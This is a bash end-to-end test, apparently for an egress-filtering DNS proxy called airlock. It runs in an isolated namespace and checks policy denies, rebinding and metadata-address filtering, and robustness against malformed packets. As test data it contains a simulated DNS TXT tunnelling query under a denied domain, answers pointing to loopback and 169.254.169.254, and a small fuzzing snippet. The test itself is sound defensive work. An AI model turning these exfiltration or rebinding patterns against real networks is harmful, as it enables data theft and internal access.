#!/usr/bin/env bash
# End-to-end test of airlock's DNS listener (tests/dns/dnsd) against a real
# dnsmasq upstream, with dig and dnsperf as clients. Everything runs in a
# private network namespace with only lo (no route out); the fake upstream
# lives at 192.0.2.53 on that lo.
#   DNSD=path/to/dnsd e2e_dns.sh
. "$(dirname "$0")/../lib.sh"

DNSD=${DNSD:?DNSD must point at the dnsd binary}

# expect_match from lib.sh pipes printf into grep -q: with pipefail, grep
# exiting at the first match can SIGPIPE the printf of a long text and fail
# a passing check. A here-string has no writer to kill.
expect_re() {
	grep -Eq -- "$2" <<<"$3" || fail "$1: '$3' does not match /$2/"
}

if [ "${DNS_E2E_INNER:-0}" != 1 ]; then
	need_root
	need_prog unshare ip dnsmasq dig python3
	export DNS_E2E_INNER=1
	exec unshare -n -- "$BASH" "$0" "$@"
fi

scratch_dir
S=$SCRATCH
PIDS=()
DNSD_PIDS=()
cleanup() {
	local p
	for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null || true; done
	for p in "${PIDS[@]}"; do wait "$p" 2>/dev/null || true; done
	rm -rf "$S"
}
trap cleanup EXIT

ip link set lo up
ip addr add 192.0.2.53/32 dev lo
ip addr add 2001:db8::53/128 dev lo

# Upstream: dnsmasq, authoritative for the test names only.
for i in $(seq 1 100); do echo "203.0.113.$i many.allowed.test"; done >"$S/many.hosts"
dnsmasq --keep-in-foreground --no-resolv --no-hosts --user=root --group=root \
	--listen-address=192.0.2.53 --listen-address=2001:db8::53 --bind-interfaces --port=53 \
	--pid-file="$S/dnsmasq.pid" --log-queries --log-facility="$S/dnsmasq.log" \
	--addn-hosts="$S/many.hosts" \
	--address=/allowed.test/203.0.113.10 \
	--address=/v6.allowed.test/2001:db8::10 \
	--address=/rebind.test/127.0.0.1 \
	--address=/meta.test/169.254.169.254 \
	--address=/mixed.test/203.0.113.30 --address=/mixed.test/10.1.2.3 \
	--address=/db.test/203.0.113.54 --address=/closed.test/203.0.113.55 \
	--address=/dbpriv.test/10.7.0.5 \
	--host-record=evil.test,203.0.113.66 \
	--host-record=cdn.elsewhere.test,203.0.113.20 \
	--local-ttl=600 \
	--cname=www.allowed.test,cdn.elsewhere.test \
	--cname=bad.allowed.test,evil.test \
	--txt-record=allowed.test,"v=spf1 -all" &
PIDS+=($!)

cat >"$S/policy.yaml" <<'YAML'
version: 1
name: dnstest
allow:
  - host: allowed.test
  - host: "*.allowed.test"
  - host: rebind.test
  - host: meta.test
  - host: mixed.test
  - host: db.test
    ports: [5432]
  - host: dbpriv.test
    ports: [5432]
  - cidr: 10.7.0.5/32
    ports: [5432]
  - host: closed.test
    ports: [443, 8443]
deny:
  - host: evil.test
  - host: closed.test
    ports: [443]
  - host: closed.test
    ports: [8443]
YAML
sed 's/^name: dnstest/name: dnsaudit\nmode: audit/' "$S/policy.yaml" >"$S/audit.yaml"

start_dnsd() { # LOG POLICY PORT UPSTREAM...
	local log=$1 pol=$2 port=$3
	shift 3
	local args=()
	for u in "$@"; do args+=(-u "$u"); done
	"$DNSD" -p "$pol" -l "127.0.0.1:$port" -o "$log" -t 2000 "${args[@]}" \
		2>>"$S/dnsd.err" &
	PIDS+=($!)
	DNSD_PIDS+=($!)
}

start_dnsd "$S/egress.jsonl" "$S/policy.yaml" 5353 192.0.2.53
# Silent upstreams (closed ports: the ICMP errors are not seen) and an
# unroutable one.
start_dnsd "$S/down.jsonl" "$S/policy.yaml" 5354 192.0.2.53:5399 192.0.2.53:5398
start_dnsd "$S/unroute.jsonl" "$S/policy.yaml" 5356 192.0.2.99
# An IPv6 upstream.
start_dnsd "$S/v6.jsonl" "$S/policy.yaml" 5357 "[2001:db8::53]:53"
start_dnsd "$S/audit.jsonl" "$S/audit.yaml" 5355 192.0.2.53

q() { dig @127.0.0.1 -p 5353 +time=3 +tries=1 "$@"; }

# Wait for everything to answer.
for _ in $(seq 50); do
	q +short allowed.test >/dev/null 2>&1 && [ -s "$S/dnsmasq.log" ] && break
	sleep 0.1
done

echo "# allowed name resolves"
out=$(q +short allowed.test A)
expect_eq "allowed.test A" "203.0.113.10" "$out"
grep -q '"host":"allowed.test".*"verdict":"allow"' "$S/egress.jsonl" ||
	fail "no allow log line for allowed.test: $(cat "$S/egress.jsonl")"
grep -q '203.0.113.10' <<<"$(grep '"host":"allowed.test"' "$S/egress.jsonl")" ||
	fail "log line lacks the answer"

echo "# case is preserved, matching is not case-sensitive"
out=$(q AlLoWeD.TeSt A)
expect_re "mixed case" 'AlLoWeD\.TeSt\.[[:space:]]+[0-9]+[[:space:]]+IN[[:space:]]+A[[:space:]]+203\.0\.113\.10' "$out"

echo "# AAAA"
out=$(q +short v6.allowed.test AAAA)
expect_eq "v6.allowed.test AAAA" "2001:db8::10" "$out"

echo "# CNAME chain to a CDN name is followed; TTLs capped"
out=$(q +noall +answer www.allowed.test A)
expect_re "cname" 'CNAME[[:space:]]+cdn\.elsewhere\.test' "$out"
expect_re "cname target A" 'cdn\.elsewhere\.test\.[[:space:]]+[0-9]+[[:space:]]+IN[[:space:]]+A[[:space:]]+203\.0\.113\.20' "$out"
ttl=$(printf '%s\n' "$out" | awk '$4=="A"{print $2}')
[ "$ttl" -eq 300 ] || fail "TTL $ttl: dnsmasq says 600, the cap is 300"

echo "# CNAME into a denied name gives no addresses"
out=$(q +short bad.allowed.test A)
expect_eq "bad.allowed.test" "" "$out"
grep -q 'CNAME to a denied name' <<<"$(grep '"host":"bad.allowed.test"' "$S/egress.jsonl")" ||
	fail "no log line for the CNAME into a denied name"

echo "# denied name: NXDOMAIN + EDE, never upstream"
out=$(q evil.test A)
expect_re "evil status" 'status: NXDOMAIN' "$out"
expect_re "evil EDE" 'EDE: 15 \(Blocked\).*evil\.test denied by policy .dnstest.' "$out"
out=$(q nothere.test A)
expect_re "unlisted status" 'status: NXDOMAIN' "$out"
expect_re "unlisted EDE" 'EDE: 15 \(Blocked\).*no rule allows' "$out"
out=$(q +noedns nothere.test A)
expect_re "no EDNS: plain NXDOMAIN" 'status: NXDOMAIN' "$out"
if grep -q 'EDE' <<<"$out"; then fail "EDE without OPT: $out"; fi
grep -q '"host":"evil.test".*"verdict":"deny"' "$S/egress.jsonl" || fail "no deny log line"

echo "# a name allowed only on port 5432 resolves"
out=$(q +short db.test A)
expect_eq "db.test A" "203.0.113.54" "$out"
echo "# a private answer that a cidr rule opens on 5432 is kept"
out=$(q +short dbpriv.test A)
expect_eq "dbpriv.test A" "10.7.0.5" "$out"
echo "# a name denied on every port it is allowed on: NXDOMAIN, never upstream"
out=$(q closed.test A)
expect_re "closed status" 'status: NXDOMAIN' "$out"
expect_re "closed EDE" 'EDE: 15 \(Blocked\).*closed\.test denied by policy .dnstest.' "$out"
grep -q '"host":"closed.test".*"verdict":"deny"' "$S/egress.jsonl" || fail "no deny log line for closed.test"

echo "# TXT tunnelling under a denied domain never leaves"
out=$(q TXT aGVsbG8gd29ybGQ.c2VjcmV0.exfil.evil.test)
expect_re "tunnel status" 'status: NXDOMAIN' "$out"
out=$(q TXT allowed.test)
expect_re "TXT of allowed name: NODATA" 'status: NOERROR.*ANSWER: 0' "$(printf '%s' "$out" | tr '\n' ' ')"
expect_re "TXT: says why" 'EDE: 15 \(Blocked\): \(airlock: query type not forwarded\)' "$out"
out=$(q HTTPS allowed.test)
expect_re "HTTPS: NODATA" 'status: NOERROR.*ANSWER: 0' "$(printf '%s' "$out" | tr '\n' ' ')"
out=$(q ANY allowed.test)
expect_re "ANY: NOTIMP" 'status: NOTIMP' "$out"

echo "# rebinding answers are filtered"
out=$(q rebind.test A)
expect_re "rebind" 'status: NOERROR' "$out"
expect_re "rebind no answers" 'ANSWER: 0' "$out"
expect_re "rebind EDE" 'EDE: 15 \(Blocked\).*127\.0\.0\.1 \(loopback\)' "$out"
out=$(q +short meta.test A)
expect_eq "metadata address removed" "" "$out"
out=$(q +short mixed.test A)
expect_eq "private address removed, public kept" "203.0.113.30" "$out"
grep -q 'address guard.*127.0.0.1' <<<"$(grep '"host":"rebind.test"' "$S/egress.jsonl")" ||
	fail "no guard log line for rebind.test"
grep -q '169.254.169.254 (link-local)' <<<"$(grep '"host":"meta.test"' "$S/egress.jsonl")" ||
	fail "no guard log line for meta.test"

echo "# reverse lookups come from what was learned, never upstream"
out=$(q +short -x 203.0.113.10)
expect_eq "PTR of a learned address" "allowed.test." "$out"
out=$(q -x 203.0.113.99)
expect_re "PTR of an unknown address" 'status: NXDOMAIN' "$out"

echo "# an IPv6 upstream"
out=$(dig @127.0.0.1 -p 5357 +time=3 +tries=1 +short allowed.test A)
expect_eq "via [2001:db8::53]:53" "203.0.113.10" "$out"

echo "# TCP"
out=$(q +tcp +short allowed.test A)
expect_eq "TCP allowed.test" "203.0.113.10" "$out"
out=$(q +tcp evil.test A)
expect_re "TCP deny" 'status: NXDOMAIN' "$out"
# Several queries on one connection, pipelined.
python3 - <<'PY' || fail "pipelined TCP queries"
import socket, struct
def query(i, name):
    q = struct.pack(">HHHHHH", i, 0x0100, 1, 0, 0, 0)
    for l in name.split("."):
        q += bytes([len(l)]) + l.encode()
    q += b"\0" + struct.pack(">HH", 1, 1)
    return struct.pack(">H", len(q)) + q
s = socket.create_connection(("127.0.0.1", 5353), timeout=5)
s.sendall(b"".join(query(i, n) for i, n in enumerate(["allowed.test", "evil.test", "www.allowed.test"], 1)))
got = {}
buf = b""
while len(got) < 3:
    d = s.recv(4096)
    if not d:
        break
    buf += d
    while len(buf) >= 2 and len(buf) >= 2 + struct.unpack(">H", buf[:2])[0]:
        n = struct.unpack(">H", buf[:2])[0]
        m = buf[2:2 + n]
        buf = buf[2 + n:]
        got[struct.unpack(">H", m[:2])[0]] = m[3] & 0xf
assert got == {1: 0, 2: 3, 3: 0}, got
PY

echo "# truncation: 100 addresses do not fit in 512 bytes"
out=$(q +noedns +ignore many.allowed.test A)
expect_re "TC over UDP" 'flags: qr tc' "$out"
n=$(q +short many.allowed.test A | wc -l)
expect_eq "all 100 via TCP retry (dig follows TC)" 100 "$n"
n=$(q +tcp +short many.allowed.test A | wc -l)
expect_eq "all 100 via TCP" 100 "$n"
# The name goes up in a random mix of cases (0x20), which dnsmasq echoes.
grep -qi 'many.allowed.test' "$S/dnsmasq.log" || fail "dnsmasq did not see many.allowed.test"
grep -Eq 'query\[A\] [a-zA-Z0-9.]*[A-Z]' "$S/dnsmasq.log" || fail "no upstream query in mixed case"

echo "# malformed packets are dropped, the server survives"
python3 - <<'PY'
import socket, os
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for n in range(200):
    s.sendto(os.urandom(n % 64), ("127.0.0.1", 5353))
# a pointer loop in the question
s.sendto(bytes.fromhex("1234010000010000000000 00c00c00010001".replace(" ", "")), ("127.0.0.1", 5353))
PY
out=$(q +short allowed.test A)
expect_eq "still serving" "203.0.113.10" "$out"

echo "# upstream down: SERVFAIL within the budget"
t0=$(date +%s%N)
out=$(dig @127.0.0.1 -p 5354 +time=5 +tries=1 allowed.test A)
t1=$(date +%s%N)
ms=$(( (t1 - t0) / 1000000 ))
expect_re "down status" 'status: SERVFAIL' "$out"
[ "$ms" -lt 3000 ] || fail "SERVFAIL took $ms ms"
[ "$ms" -ge 1500 ] || fail "SERVFAIL after only $ms ms: no retry?"
grep -q '"rcode":"SERVFAIL".*timed out\|timed out.*"rcode":"SERVFAIL"' "$S/down.jsonl" ||
	fail "no SERVFAIL log line with a reason: $(cat "$S/down.jsonl")"

out=$(dig @127.0.0.1 -p 5356 +time=5 +tries=1 allowed.test A)
expect_re "unroutable upstream" 'status: SERVFAIL' "$out"
grep -q 'unreachable' "$S/unroute.jsonl" || fail "no reason for the unroutable upstream: $(cat "$S/unroute.jsonl")"

echo "# nothing denied reached the upstream"
if grep -q 'query.*evil\.test' "$S/dnsmasq.log"; then
	fail "dnsmasq saw a denied name: $(grep evil "$S/dnsmasq.log")"
fi
grep -q 'query.*nothere\.test' "$S/dnsmasq.log" && fail "dnsmasq saw nothere.test"
grep -q 'query.*closed\.test' "$S/dnsmasq.log" && fail "dnsmasq saw closed.test"
grep -q 'query.*203\.0\.113\.\(10\|99\)\|in-addr' "$S/dnsmasq.log" && fail "PTR went upstream"
grep -q 'query\[TXT\]\|query\[HTTPS\]\|query\[ANY\]' "$S/dnsmasq.log" && fail "a non-address type went upstream"

echo "# audit mode resolves denied names and logs audit-deny"
out=$(dig @127.0.0.1 -p 5355 +time=3 +tries=1 +short evil.test A)
expect_eq "audit evil.test" "203.0.113.66" "$out"
grep -q '"host":"evil.test".*"verdict":"audit-deny"' "$S/audit.jsonl" ||
	fail "no audit-deny line: $(cat "$S/audit.jsonl")"
out=$(dig @127.0.0.1 -p 5355 +time=3 +tries=1 +short rebind.test A)
expect_eq "audit keeps the guard" "" "$out"

if command -v dnsperf >/dev/null; then
	echo "# 10,000 queries per second for 3 s without loss"
	for i in $(seq 1 50); do
		echo "allowed.test A"
		echo "www.allowed.test A"
		echo "v6.allowed.test AAAA"
		echo "evil.test A"
	done >"$S/queries.txt"
	out=$(dnsperf -s 127.0.0.1 -p 5353 -d "$S/queries.txt" -l 3 -Q 10000 -c 4 -t 2 -b 4096 2>&1)
	printf '%s\n' "$out" | grep -E 'Queries (sent|completed|lost)|Queries per second'
	lost=$(printf '%s\n' "$out" | awk '/Queries lost:/{print $3}')
	sent=$(printf '%s\n' "$out" | awk '/Queries sent:/{print $3}')
	expect_eq "queries lost" 0 "$lost"
	# dnsperf itself paces the sending; on a loaded 2-core CI machine (tests
	# run in parallel, sanitizers) it may fall a little short of the rate.
	[ "$sent" -ge 24000 ] || fail "only $sent queries sent in 3 s"
fi
echo "# clean shutdown (under ASan: no leaks, no errors)"
for p in "${DNSD_PIDS[@]}"; do
	kill -TERM "$p"
	rc=0
	wait "$p" || rc=$?
	[ "$rc" -eq 0 ] || fail "dnsd $p exited with $rc: $(tail -n 30 "$S/dnsd.err")"
done
if grep -E 'Sanitizer|runtime error' "$S/dnsd.err"; then
	fail "sanitizer report from dnsd"
fi
grep -Eq 'dns: dropped [0-9]+ malformed queries' "$S/dnsd.err" ||
	fail "the malformed queries were not counted: $(cat "$S/dnsd.err")"
echo "PASS"
